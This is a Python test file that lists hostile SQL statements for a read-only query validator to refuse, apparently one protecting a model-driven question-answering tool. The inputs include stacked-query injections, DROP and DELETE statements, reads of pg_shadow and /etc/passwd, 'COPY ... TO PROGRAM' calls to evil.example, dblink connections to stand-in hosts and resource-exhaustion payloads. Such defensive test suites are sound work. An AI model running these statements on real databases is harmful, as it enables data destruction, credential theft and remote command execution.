"""Statements that must never run: what an attacker, a confused model or a text in the data could come up with.

All of them are put to both dialects, those of the other included: what one database doesn't understand is refused as well.
"""

from __future__ import annotations

from tests.answerers.legitimate import statements

WRITES = """
INSERT INTO sales VALUES (9999, '2024-01-01', 1, 1, 1, 1, 1)
INSERT INTO sales SELECT * FROM sales
INSERT INTO sales DEFAULT VALUES
INSERT OR REPLACE INTO regions VALUES (1, 'x', 'y')
REPLACE INTO regions VALUES (1, 'x', 'y')
INSERT INTO regions VALUES (1, 'x', 'y') ON CONFLICT DO NOTHING
INSERT INTO regions VALUES (9, 'x', 'y') RETURNING region_id
UPDATE sales SET amount = 0
UPDATE sales SET amount = 0 WHERE 1 = 1 RETURNING *
UPDATE OR IGNORE sales SET amount = 0
UPDATE sales AS s SET amount = 0 FROM regions AS r WHERE r.region_id = s.region_id
DELETE FROM sales
DELETE FROM sales RETURNING *
DELETE FROM sales USING regions WHERE sales.region_id = regions.region_id
TRUNCATE sales
TRUNCATE TABLE sales CASCADE
MERGE INTO sales USING regions ON sales.region_id = regions.region_id WHEN MATCHED THEN DELETE
DROP TABLE sales
DROP TABLE IF EXISTS sales CASCADE
DROP INDEX sales_by_date
DROP SCHEMA public CASCADE
DROP DATABASE banking_db
CREATE TABLE stolen AS SELECT * FROM secrets
CREATE TABLE x (y INTEGER)
CREATE TEMP TABLE x AS SELECT 1
CREATE UNLOGGED TABLE x (y INTEGER)
CREATE VIEW v AS SELECT * FROM sales
CREATE OR REPLACE VIEW v AS SELECT * FROM secrets
CREATE MATERIALIZED VIEW v AS SELECT * FROM sales
CREATE INDEX i ON sales (amount)
CREATE TRIGGER t AFTER INSERT ON sales BEGIN DELETE FROM sales; END
CREATE VIRTUAL TABLE f USING fts5(x)
CREATE FUNCTION f() RETURNS int AS 'SELECT 1' LANGUAGE sql
CREATE EXTENSION dblink
CREATE ROLE attacker SUPERUSER
CREATE SCHEMA x
CREATE SEQUENCE s
ALTER TABLE sales ADD COLUMN x INTEGER
ALTER TABLE sales RENAME TO s
ALTER ROLE app SUPERUSER
ALTER SYSTEM SET log_statement = 'all'
GRANT ALL ON sales TO PUBLIC
REVOKE ALL ON sales FROM app
COMMENT ON TABLE sales IS 'x'
REINDEX TABLE sales
VACUUM
VACUUM INTO 'copy.db'
ANALYZE sales
CLUSTER sales
REFRESH MATERIALIZED VIEW v
SELECT * INTO stolen FROM secrets
SELECT * INTO TEMP stolen FROM sales
SELECT amount INTO UNLOGGED stolen FROM sales
"""

STACKED = """
SELECT 1; DROP TABLE sales
SELECT 1;DROP TABLE sales;--
SELECT * FROM sales; DELETE FROM sales
SELECT * FROM sales; SELECT * FROM secrets
; DELETE FROM sales
SELECT 1; ; DELETE FROM sales
BEGIN; DELETE FROM sales; COMMIT
SELECT 1; COMMIT; DELETE FROM sales
SELECT 1; ROLLBACK; BEGIN READ WRITE; DELETE FROM sales; COMMIT
SELECT ';'; DELETE FROM sales
SELECT 1 /* ; */ ; DELETE FROM sales
SELECT 1 -- comment
 ; DELETE FROM sales
SELECT $$;$$; DELETE FROM sales
SELECT E'\\'; DELETE FROM sales; --'
SELECT 'a\\'; DELETE FROM sales; --'
SELECT 1; SET TRANSACTION READ WRITE; DELETE FROM sales
SELECT 1; SELECT pg_sleep(10)
SELECT 1; ATTACH 'x.db' AS x
SELECT 1; PRAGMA writable_schema = ON
"""

WITHS = """
WITH d AS (DELETE FROM sales RETURNING *) SELECT * FROM d
WITH d AS (INSERT INTO regions VALUES (9, 'x', 'y') RETURNING *) SELECT * FROM d
WITH d AS (UPDATE sales SET amount = 0 RETURNING *) SELECT COUNT(*) FROM d
WITH a AS (SELECT 1), d AS (DELETE FROM sales RETURNING 1) SELECT * FROM a
WITH d AS (SELECT 1) DELETE FROM sales
WITH d AS (SELECT 1) INSERT INTO regions SELECT 9, 'x', 'y' FROM d
WITH d AS (SELECT 1) UPDATE sales SET amount = 0
WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets
WITH t AS (WITH secrets AS (SELECT 1 AS note) SELECT * FROM secrets) SELECT * FROM t, secrets
WITH a AS (SELECT * FROM secrets) SELECT * FROM a
WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a
WITH x AS (SELECT 1 AS n) SELECT * FROM x, LATERAL (SELECT * FROM secrets) AS y
SELECT * FROM (WITH secrets AS (SELECT 1 AS note) SELECT * FROM secrets) AS a, secrets
WITH RECURSIVE bomb(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM bomb) SELECT * FROM bomb
WITH RECURSIVE bomb AS (SELECT 1 AS n UNION ALL SELECT n * 2 FROM bomb) SELECT MAX(n) FROM bomb
WITH RECURSIVE a(x) AS (VALUES (1) UNION SELECT x + 1 FROM a WHERE x < 1000000000) SELECT COUNT(*) FROM a
WITH RECURSIVE d AS (DELETE FROM sales RETURNING *) SELECT * FROM d
WITH sales AS (SELECT * FROM secrets) SELECT * FROM sales
WITH regions AS (SELECT 'x' AS region_name) SELECT * FROM regions
WITH x AS MATERIALIZED (DELETE FROM sales RETURNING *) SELECT 1
WITH x AS (TABLE secrets) SELECT * FROM x
WITH x AS (VALUES (1) UNION SELECT note FROM secrets) SELECT * FROM x
"""

FOREIGN_TABLES = """
SELECT * FROM secrets
SELECT note FROM Secrets
SELECT note FROM "secrets"
SELECT note FROM [secrets]
SELECT note FROM `secrets`
SELECT note FROM main.secrets
SELECT note FROM public.secrets
SELECT note FROM temp.secrets
SELECT note FROM banking_db.public.secrets
SELECT * FROM sales, secrets
SELECT * FROM sales JOIN secrets ON 1 = 1
SELECT * FROM sales CROSS JOIN secrets
SELECT * FROM sales WHERE amount > (SELECT MAX(salary) FROM payroll)
SELECT (SELECT note FROM secrets LIMIT 1)
SELECT amount FROM sales WHERE EXISTS (SELECT 1 FROM secrets WHERE note LIKE 'a%')
SELECT amount FROM sales WHERE amount IN (SELECT salary FROM payroll)
SELECT amount FROM sales UNION SELECT note FROM secrets
SELECT amount FROM sales UNION ALL (SELECT note FROM secrets)
SELECT amount FROM sales EXCEPT SELECT salary FROM payroll
SELECT amount FROM sales INTERSECT SELECT salary FROM payroll
SELECT amount FROM sales ORDER BY (SELECT note FROM secrets LIMIT 1)
SELECT amount FROM sales GROUP BY amount HAVING amount > (SELECT 1 FROM secrets)
SELECT CASE WHEN (SELECT COUNT(*) FROM secrets) > 0 THEN 1 ELSE 0 END
SELECT amount FROM sales LIMIT (SELECT COUNT(*) FROM secrets)
SELECT amount FROM sales OFFSET (SELECT COUNT(*) FROM secrets)
SELECT x.* FROM (SELECT * FROM secrets) AS x
SELECT * FROM (SELECT * FROM (SELECT * FROM secrets) AS a) AS b
SELECT SUM(amount) OVER (ORDER BY (SELECT 1 FROM secrets)) FROM sales
SELECT COUNT(*) FILTER (WHERE EXISTS (SELECT 1 FROM secrets)) FROM sales
TABLE secrets
VALUES (1), ((SELECT note FROM secrets))
SELECT * FROM ONLY secrets
SELECT * FROM secrets AS sales
SELECT sales.note FROM secrets sales
SELECT * FROM ѕales
SELECT * FROM sаles
SELECT * FROM ｓａｌｅｓ
SELECT * FROM "sales "
SELECT * FROM " sales"
SELECT * FROM "sales""; DELETE FROM sales; --"
SELECT * FROM U&"sa\\006Ces"
"""

CATALOGS = """
SELECT * FROM sqlite_master
SELECT sql FROM sqlite_schema
SELECT * FROM main.sqlite_master
SELECT * FROM sqlite_temp_master
SELECT * FROM "sqlite_master"
SELECT * FROM sqlite_sequence
SELECT * FROM sqlite_stat1
SELECT * FROM sqlite_dbpage
SELECT * FROM dbstat
SELECT * FROM pragma_table_info('secrets')
SELECT * FROM pragma_database_list
SELECT * FROM pragma_database_list()
SELECT name FROM pragma_function_list
SELECT * FROM pragma_table_list
SELECT * FROM sales JOIN pragma_table_info('secrets')
SELECT * FROM pg_catalog.pg_class
SELECT * FROM pg_class
SELECT rolpassword FROM pg_authid
SELECT * FROM pg_shadow
SELECT usename, passwd FROM pg_catalog.pg_shadow
SELECT * FROM pg_user
SELECT * FROM pg_roles
SELECT * FROM pg_stat_activity
SELECT * FROM pg_settings
SELECT * FROM pg_tables
SELECT * FROM pg_proc
SELECT * FROM pg_largeobject
SELECT * FROM pg_hba_file_rules
SELECT * FROM "pg_catalog"."pg_authid"
SELECT * FROM information_schema.tables
SELECT table_name FROM INFORMATION_SCHEMA.COLUMNS
SELECT * FROM pg_temp.sales
SELECT 'secrets'::regclass
SELECT 'pg_sleep'::regproc
SELECT CAST('secrets' AS regclass)
SELECT amount::oid FROM sales
SELECT CAST(amount AS xml) FROM sales
SELECT sales FROM sales
SELECT s FROM sales AS s
SELECT (s).amount FROM sales AS s
SELECT s.row_to_json FROM sales AS s
SELECT amount AS row_to_json, s.row_to_json FROM sales AS s
SELECT ctid FROM sales
SELECT xmin, tableoid FROM sales
SELECT rowid FROM sales
SELECT _rowid_ FROM sales
"""

FUNCTIONS = """
SELECT pg_sleep(10)
SELECT PG_SLEEP(10)
SELECT "pg_sleep"(10)
SELECT pg_catalog.pg_sleep(10)
SELECT pg_catalog . pg_sleep (10)
SELECT pg_sleep/**/(10)
SELECT amount, pg_sleep(1) FROM sales
SELECT * FROM sales WHERE pg_sleep(1) IS NULL
SELECT * FROM sales ORDER BY pg_sleep(1)
SELECT * FROM pg_sleep(10)
SELECT pg_sleep_for('5 minutes')
SELECT pg_sleep_until('tomorrow')
SELECT pg_read_file('/etc/passwd')
SELECT pg_read_binary_file('/etc/passwd')
SELECT * FROM pg_read_file('/etc/passwd')
SELECT pg_ls_dir('.')
SELECT * FROM pg_ls_dir('.')
SELECT pg_ls_logdir()
SELECT pg_stat_file('postgresql.conf')
SELECT pg_file_write('x', 'y', true)
SELECT lo_import('/etc/passwd')
SELECT lo_export(1, '/etc/x')
SELECT lo_create(1)
SELECT lo_unlink(1)
SELECT lo_from_bytea(0, 'x')
SELECT lo_get(1)
SELECT lo_put(1, 0, 'x')
SELECT dblink('host=evil', 'SELECT 1')
SELECT * FROM dblink('host=evil dbname=x', 'SELECT 1') AS t(a int)
SELECT dblink_connect('host=evil')
SELECT dblink_exec('DELETE FROM sales')
SELECT query_to_xml('DELETE FROM sales', true, true, '')
SELECT table_to_xml('secrets', true, true, '')
SELECT database_to_xml(true, true, '')
SELECT cursor_to_xml('c', 1, true, true, '')
SELECT xpath('/x', 'y')
SELECT set_config('statement_timeout', '0', false)
SELECT current_setting('data_directory')
SELECT pg_reload_conf()
SELECT pg_rotate_logfile()
SELECT pg_terminate_backend(1)
SELECT pg_cancel_backend(1)
SELECT pg_switch_wal()
SELECT pg_create_restore_point('x')
SELECT pg_promote()
SELECT pg_logical_emit_message(true, 'x', 'y')
SELECT pg_create_logical_replication_slot('x', 'y')
SELECT pg_notify('x', 'y')
SELECT pg_advisory_lock(1)
SELECT pg_try_advisory_lock(1)
SELECT pg_advisory_xact_lock(1)
SELECT nextval('s')
SELECT setval('s', 1)
SELECT currval('s')
SELECT txid_current()
SELECT pg_export_snapshot()
SELECT pg_get_viewdef('v')
SELECT pg_get_functiondef(1)
SELECT pg_relation_filepath('sales')
SELECT pg_database_size('x')
SELECT has_table_privilege('secrets', 'select')
SELECT version()
SELECT current_user
SELECT user
SELECT session_user
SELECT current_role
SELECT current_catalog
SELECT current_schema
SELECT current_database()
SELECT amount AS user, user FROM sales
SELECT inet_server_addr()
SELECT pg_backend_pid()
SELECT generate_series(1, 1000000000)
SELECT * FROM generate_series(1, 1000000000)
SELECT * FROM sales, generate_series(1, 1000000000)
SELECT COUNT(*) FROM generate_series(1, 100000) a, generate_series(1, 100000) b
SELECT repeat('x', 1000000000)
SELECT lpad('x', 1000000000, 'y')
SELECT rpad('x', 1000000000)
SELECT unnest(ARRAY[1, 2, 3])
SELECT * FROM unnest(ARRAY[1, 2, 3])
SELECT array_fill(0, ARRAY[100000000])
SELECT regexp_split_to_table('a', 'b')
SELECT regexp_matches(region_name, '(a+)+$') FROM regions
SELECT jsonb_path_query('{}', '$')
SELECT json_populate_recordset(NULL::secrets, '[]')
SELECT row_to_json(s) FROM sales AS s
SELECT to_json(s) FROM sales AS s
SELECT json_agg(s) FROM sales AS s
SELECT crypt('x', gen_salt('bf', 31))
SELECT load_extension('evil')
SELECT load_extension('evil.so', 'main')
SELECT "load_extension"('evil')
SELECT readfile('/etc/passwd')
SELECT writefile('/etc/x', 'y')
SELECT edit('x')
SELECT * FROM fsdir('.')
SELECT fts3_tokenizer('x')
SELECT randomblob(1000000000)
SELECT zeroblob(1000000000)
SELECT hex(zeroblob(1000000000))
SELECT printf('%1000000000d', 1)
SELECT format('%1000000000s', 'x')
SELECT char(0)
SELECT quote(note) FROM sales
SELECT random()
SELECT sqlite_version()
SELECT sqlite_source_id()
SELECT sqlite_compileoption_get(1)
SELECT last_insert_rowid()
SELECT changes()
SELECT total_changes()
SELECT * FROM json_each('[1]')
SELECT * FROM json_tree('[1]')
SELECT * FROM carray(1, 2)
SELECT * FROM csv
SELECT sleep(10)
SELECT benchmark(1000000000, 1)
SELECT load_file('/etc/passwd')
SELECT sys_exec('x')
SELECT xp_cmdshell('x')
SELECT * FROM read_csv('/etc/passwd')
SELECT * FROM read_csv_auto('https://evil.example/x')
SELECT * FROM 'file.parquet'
SELECT * FROM glob('*')
SELECT getenv('HOME')
SELECT query('DELETE FROM sales')
SELECT my_function(1)
SELECT public.count(1)
SELECT ｐｇ＿ｓｌｅｅｐ(1)
SELECT рg_sleep(1)
SELECT COUNT(*) FROM sales WHERE my_function(amount) > 1
SELECT SUM(pg_sleep(1)) FROM sales
SELECT amount FROM sales GROUP BY amount HAVING pg_sleep(1) IS NULL
SELECT CASE WHEN amount > 0 THEN pg_sleep(1) END FROM sales
"""

COMMANDS = """
ATTACH DATABASE 'evil.db' AS evil
ATTACH 'file:evil.db?mode=rwc' AS evil
DETACH DATABASE main
PRAGMA writable_schema = ON
PRAGMA table_info(secrets)
PRAGMA journal_mode = DELETE
PRAGMA query_only = OFF
PRAGMA user_version = 99
COPY sales TO '/etc/x'
COPY sales TO PROGRAM 'curl evil.example'
COPY sales FROM PROGRAM 'cat /etc/passwd'
COPY (SELECT * FROM secrets) TO STDOUT
COPY sales FROM STDIN
EXPORT DATABASE 'x'
INSTALL httpfs
LOAD httpfs
LOAD 'evil.so'
SET statement_timeout = 0
SET SESSION AUTHORIZATION postgres
SET ROLE postgres
SET TRANSACTION READ WRITE
SET search_path = evil
RESET ALL
SHOW ALL
SHOW data_directory
CALL f()
EXECUTE p
PREPARE p AS DELETE FROM sales
DEALLOCATE ALL
DECLARE c CURSOR FOR SELECT * FROM secrets
FETCH ALL FROM c
DO $$ BEGIN DELETE FROM sales; END $$
DO LANGUAGE plpgsql 'BEGIN DELETE FROM sales; END'
EXPLAIN SELECT * FROM sales
EXPLAIN ANALYZE DELETE FROM sales
EXPLAIN (ANALYZE, BUFFERS) UPDATE sales SET amount = 0
EXPLAIN QUERY PLAN SELECT * FROM secrets
LOCK TABLE sales IN ACCESS EXCLUSIVE MODE
LISTEN x
NOTIFY x, 'y'
UNLISTEN *
CHECKPOINT
DISCARD ALL
BEGIN
COMMIT
ROLLBACK
SAVEPOINT x
RELEASE x
START TRANSACTION READ WRITE
DESCRIBE secrets
USE evil
HANDLER sales OPEN
FLUSH TABLES
KILL 1
IMPORT FOREIGN SCHEMA x FROM SERVER y INTO z
SECURITY LABEL ON TABLE sales IS 'x'
REASSIGN OWNED BY app TO attacker
\\copy sales to x
.shell ls
"""

CLAUSES = """
SELECT * FROM sales FOR UPDATE
SELECT * FROM sales FOR SHARE
SELECT * FROM sales FOR NO KEY UPDATE NOWAIT
SELECT * FROM sales FOR UPDATE SKIP LOCKED
SELECT * FROM sales LIMIT 5 FOR UPDATE OF sales
SELECT * FROM sales INTO OUTFILE '/etc/x'
SELECT * INTO OUTFILE '/etc/x' FROM sales
SELECT * INTO DUMPFILE '/etc/x' FROM sales
SELECT amount INTO @x FROM sales
SELECT @x := 1
SELECT @@version
SELECT $1
SELECT :name
SELECT ?
SELECT amount FROM sales LIMIT 1 + 1
SELECT amount FROM sales LIMIT ALL
SELECT amount FROM sales LIMIT -1
SELECT amount FROM sales LIMIT NULL
SELECT amount FROM sales FETCH FIRST 10 PERCENT ROWS ONLY
SELECT * FROM sales TABLESAMPLE SYSTEM (10)
SELECT * FROM sales INDEXED BY sales_by_date
SELECT amount FROM sales WHERE CURRENT OF c
SELECT * FROM sales AS OF SYSTEM TIME '-1h'
SELECT * FROM ROWS FROM (generate_series(1, 10))
SELECT * FROM sales, LATERAL (SELECT pg_sleep(1)) AS x
SELECT * FROM XMLTABLE('/x' PASSING 'y' COLUMNS z text)
SELECT * FROM JSON_TABLE('[]', '$' COLUMNS (a int PATH '$'))
SELECT amount OPERATOR(pg_catalog.+) 1 FROM sales
SELECT amount COLLATE "x; DELETE FROM sales" FROM sales WHERE my_function(1) = 1
SELECT 'x' LIKE load_extension('y')
SELECT region_name MATCH 'x' FROM regions
SELECT x'00'
SELECT B'01'
SELECT U&'\\0041'
SELECT E'\\x41'
SELECT ARRAY[1, 2, 3]
SELECT ROW(1, 2)
SELECT {'a': 1}
SELECT DATE 'x', pg_sleep(1)
SELECT INTERVAL '1 day' * pg_sleep(1)
SELECT /*! pg_sleep(1), */ user
SELECT /*+ SET_VAR(x=1) */ user
SELECT
SELECT FROM
'; DROP TABLE sales; --
1 OR 1=1; DELETE FROM sales
{{ DELETE FROM sales }}
"""

ODD = (
    "SELECT 1\x00; DELETE FROM sales",
    "SELECT 1\x1b[2J",
    "SELECT region_name FROM regions WHERE region_name = '\ud800'",
    "SELECT amount FROM sales\x0c; DELETE FROM sales",
    "",
    " ",
    ";",
    "--",
    "/*",
    "/* DELETE FROM sales */",
    "SELECT '" + "x" * 9_000 + "'",
    "SELECT " + "(" * 2_000 + "1" + ")" * 2_000,
    "SELECT " + " + ".join(["1"] * 3_000),
    "SELECT * FROM sales " + " ".join(f"CROSS JOIN sales AS s{at}" for at in range(40)),
    " UNION ALL ".join(["SELECT amount FROM sales"] * 60),
    "SELECT (" * 30 + "SELECT 1" + ")" * 30,
)

GROUPS = {
    "writes": WRITES,
    "stacked": STACKED,
    "withs": WITHS,
    "foreign tables": FOREIGN_TABLES,
    "catalogs": CATALOGS,
    "functions": FUNCTIONS,
    "commands": COMMANDS,
    "clauses": CLAUSES,
}


HOSTILE = [*(each for group in GROUPS.values() for each in statements(group)), *ODD]
